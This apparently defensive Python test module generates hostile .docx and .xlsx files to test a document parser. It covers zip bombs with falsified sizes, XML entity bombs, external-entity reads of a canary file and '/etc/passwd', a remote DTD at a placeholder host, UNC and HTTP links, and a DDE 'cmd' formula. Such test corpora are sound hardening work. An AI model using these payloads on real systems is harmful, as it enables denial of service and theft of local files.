"""Word files and workbooks made to do harm: bombs, entities, links to files, lies about themselves."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from typing import TYPE_CHECKING

from hostile.valid import (
    PROLOG,
    cell,
    docx,
    docx_parts,
    packed,
    paragraph,
    relation,
    relationships,
    sheet,
    word,
    xlsx,
    xlsx_parts,
)

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

Made = tuple[str, bytes]  # name with ending, content
_MEGA = 1 << 20
MAINS = (
    ("docx", docx_parts(), "word/document.xml"),
    ("xlsx", xlsx_parts(), "xl/worksheets/sheet1.xml"),
)


def zip_bombs(canary: Path) -> Iterator[Made]:
    """Little that unpacks to much, of honest size or not."""
    for size in (10, 60):
        for ending, make, main in (("docx", docx, word), ("xlsx", xlsx, sheet)):
            yield f"blanks-{size}.{ending}", make(main() + " " * (size * _MEGA))
            yield f"media-{size}.{ending}", make(**{f"media/{n}.bin": bytes(size * _MEGA // 4) for n in range(4)})
    inner = packed({f"{n}.bin": bytes(8 * _MEGA) for n in range(8)})
    for depth in range(1, 6):
        inner = packed({f"{n}.zip": inner for n in range(8)})
        yield f"nested-{depth}.docx", docx(**{"word/media/inner.zip": inner})
        yield f"nested-{depth}.xlsx", xlsx(**{"xl/media/inner.zip": inner})
    for number in (5_000, 12_000, 30_000):
        yield f"parts-{number}.docx", docx(**{f"word/p{n}.xml": "" for n in range(number)})
    for copies in (50, 500, 5_000):
        yield f"overlap-{copies}.docx", overlapping(docx_parts(), copies)
        yield f"overlap-{copies}.xlsx", overlapping(xlsx_parts(), copies)
    for ending, parts, main in MAINS:
        for size in (0, 10, 1_000, 1 << 31, 0xFFFFFFFE):
            yield f"lying-{size}.{ending}", lying(packed(parts), main, size)
        yield f"twice.{ending}", twice(parts, main)


def lying(data: bytes, name: str, size: int) -> bytes:
    """Change the unpacked size of a part wherever the archive names it."""
    changed = bytearray(data)
    for mark, at, named in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = -1
        while (place := data.find(mark, place + 1)) >= 0:
            if data[place + named : place + named + len(name)] == name.encode():
                changed[place + at : place + at + 4] = struct.pack("<I", size)
    return bytes(changed)


def twice(parts: dict[str, bytes | str], name: str) -> bytes:
    """Give two parts one name: which of them is read?"""
    stream = io.BytesIO(packed(parts))
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(name, parts[name])
    return stream.getvalue()


def overlapping(parts: dict[str, bytes | str], copies: int) -> bytes:
    """Name the same packed megabyte many times: each entry of the directory leads to the same place."""
    data = packed(parts | {"word/media/kernel.bin": bytes(_MEGA)})
    end = data.find(b"PK\x05\x06")
    start = data.find(b"PK\x01\x02")
    entries = data[start:end]
    last = entries[entries.rfind(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"kernel.bin", b"%06d.bin" % n) for n in range(copies))
    count = len(parts) + 1 + copies
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries) + len(more), start, 0)
    return data[:end] + more + tail


def entities(canary: Path) -> dict[str, str]:
    """Document types that blow up, or read what is not theirs, by name; all are for the entity `e`."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    secret = canary.as_uri()
    return {
        "laughs": f'<!DOCTYPE x [<!ENTITY a0 "学校">{laughs}<!ENTITY e "&a11;">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"学" * 50_000}">]>',
        "external": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret}">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{secret}"> %p; <!ENTITY e "x">]>',
        "remote": '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
        "loop": '<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
        "password": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    }


def xml_bombs(canary: Path) -> Iterator[Made]:
    """Entities in every part that a library reads."""
    for name, doctype in entities(canary).items():
        times = 2_000 if name == "quadratic" else 1
        use = "" if name == "remote" else "&e;" * times
        prolog = PROLOG + doctype
        text = word(paragraph(use), prolog)
        rows = sheet(f'<row r="3">{cell("A3", use)}</row>', prolog)
        yield f"{name}-document.docx", docx(text)
        yield f"{name}-sheet.xlsx", xlsx(rows)
        wide = prolog.replace("UTF-8", "UTF-16")
        yield f"{name}-wide.docx", docx(text.replace(prolog, wide).encode("utf-16"))
        yield f"{name}-wide.xlsx", xlsx(rows.replace(prolog, wide).encode("utf-16"))
        for part in ("[Content_Types].xml", "_rels/.rels"):
            for ending, parts in (("docx", docx_parts()), ("xlsx", xlsx_parts())):
                changed = str(parts[part]).replace(PROLOG, prolog).replace("><", f">{use[:3]}<", 1)
                yield (
                    f"{name}-{part.strip('[').split(']')[0].replace('/', '')}.{ending}",
                    packed(parts | {part: changed}),
                )
        styles = f"{prolog}<styleSheet>{use}</styleSheet>"
        yield f"{name}-styles.xlsx", xlsx(**{"xl/styles.xml": styles, "xl/sharedStrings.xml": styles})


def local_links(canary: Path) -> Iterator[Made]:
    """Files that name others: nothing follows."""
    targets = (
        canary.as_uri(),
        str(canary),
        f"../../../../..{canary}",
        "file:///etc/passwd",
        r"\\192.0.2.1\share\x",
        "http://192.0.2.1/x",
    )
    for number, target in enumerate(targets):
        for kind in ("image", "hyperlink", "attachedTemplate", "aFChunk", "subDocument", "frame", "oleObject"):
            body = (
                '<w:altChunk r:id="rId9"/><w:subDoc r:id="rId9"/>'
                f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{target}&quot;"/></w:p>'
            )
            rels = relationships(relation(kind, target))
            yield f"link-{kind}-{number}.docx", docx(word(body), **{"word/_rels/document.xml.rels": rels})
        formulas = (f"'{target}'!A1", f'WEBSERVICE("{target}")'.replace('"', "&quot;"), "cmd|' /C touch pwned'!A0")
        for place, formula in enumerate(formulas):
            row = f'<row r="3"><c r="A3"><f>{formula}</f><v>7</v></c></row>'
            yield f"link-{place}-{number}.xlsx", xlsx(sheet(row))


def lies(canary: Path) -> Iterator[Made]:
    """Small files that ask for much: spans, merges, depth, numbering, half characters."""
    for span in (40, 10_000, 999_999_999):
        row = f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{paragraph("学校")}</w:tc></w:tr>'
        yield f"span-{span}.docx", docx(word(f"<w:tbl>{row * 2}</w:tbl>"))
    for depth in (200, 10_000, 100_000):
        yield f"deep-{depth}.docx", docx(word("<w:p>" * depth + "</w:p>" * depth))
        yield f"deep-{depth}.xlsx", xlsx(sheet("<row>" * depth + "</row>" * depth))
    for place in ("ZZ900000", "XFD1048576", "A99999999", "AAAA1"):
        yield f"far-{place}.xlsx", xlsx(sheet(f'<row r="3">{cell(place, "远")}</row>'))
    for merged in ("A1:B2", "A1:CV2000", "XFD1:A1", "A0:A9", "A1:XFD1048576"):
        after = f'<mergeCells count="1"><mergeCell ref="{merged}"/></mergeCells>'
        yield f"merge-{merged.replace(':', '-')}.xlsx", xlsx(sheet(after=after))
    for half in ("_xD800_", "_xDFFF_", "_x0000_", "_x001B_[2J", "_x202E_txt"):
        yield f"half-{half.strip('_')[:5]}.xlsx", xlsx(sheet(f'<row r="3">{cell("A3", "学校" + half)}</row>'))
    for index in (-1, 7, 1 << 40):
        yield f"string-{index}.xlsx", xlsx(sheet(f'<row r="3"><c r="A3" t="s"><v>{index}</v></c></row>'))
    for value in ("1E999999", "nan", "-inf", "9" * 5_000, "0x10", ""):
        yield f"value-{value[:8]}.xlsx", xlsx(sheet(f'<row r="3"><c r="A3"><v>{value}</v></c></row>'))
    for number, main in enumerate((b"", b"<", zlib.compress(b"x"), b"\x00" * 100, b"<w:document/>", b"\xff\xfe<")):
        yield f"main-{number}.docx", docx(main)
        yield f"main-{number}.xlsx", xlsx(main)
